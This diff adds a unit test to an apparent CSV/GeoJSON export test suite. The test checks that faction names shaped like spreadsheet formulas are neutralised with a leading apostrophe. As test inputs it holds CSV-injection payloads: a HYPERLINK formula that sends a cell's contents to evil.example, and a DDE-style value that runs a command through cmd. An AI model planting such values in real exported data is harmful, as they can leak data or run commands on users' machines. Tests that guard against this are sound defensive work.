@@ -30,6 +30,17 @@ describe('the bundled story', () => {
     }
   });
 
+  it('CSV: a side named like a spreadsheet formula is written as text, with a leading apostrophe (issue 23)', () => {
+    const names = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1', '-1', '\t=1', '\r=1'];
+    const factions = s.factions.map((f, i) => ({ ...f, name: { ...f.name, en: names[i]! } }));
+    const text = areasCsv({ ...s, factions }, s.stats!);
+    for (const name of names) expect(text).toContain(`'${name.replace(/"/g, '""')}`);
+    expect(text).toContain(',"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",');
+    const held = csvRows(text).find((r) => r[0] === '2017-07-15' && r[1] === factions[1]!.id && r[3] === 'held')!;
+    expect(held[2]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    expect(Number(held[4])).toBe(s.stats!.get('2017-07-15')!.areaKm2.held[factions[1]!.id] ?? 0);
+  });
+
   it('GeoJSON: the snapshot\'s features, with the date\'s sources, precision, licence and credits', () => {
     const entry = s.entries.find((e) => e.dateIso === '2017-07-15')!;
     const raw = readFileSync(join('data/snapshots', entry.file), 'utf8');
